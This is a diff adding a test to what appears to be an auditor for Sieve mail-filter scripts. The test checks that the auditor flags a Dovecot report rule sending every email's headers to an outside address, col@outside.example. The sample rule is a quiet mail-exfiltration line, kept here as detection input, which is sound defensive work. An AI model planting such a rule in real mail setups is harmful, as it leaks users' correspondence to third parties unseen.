@@ -103,6 +103,16 @@ def test_pipe_and_execute_to_outside_or_unknown_programs():
     assert ("pipe", "x@example.gov.uk", False) in kinds
 
 
+def test_dovecot_report_to_an_outside_address_is_found():
+    result = audit(
+        'require "vnd.dovecot.report";\n'
+        'report :headers_only "abuse" "Spam" "col@outside.example";\n'
+    )
+    [finding] = result.findings
+    assert (finding.kind, finding.target, finding.alert) == ("report", "col@outside.example", True)
+    assert "sends the headers of every email, wrapped in an abuse report, to" in finding.detail
+
+
 def test_a_redirect_through_a_variable_is_resolved_when_it_can_be():
     result = audit(
         'require ["variables"];\nset "who" "hidden";\nset "to" "${who}@outside.example";\n'
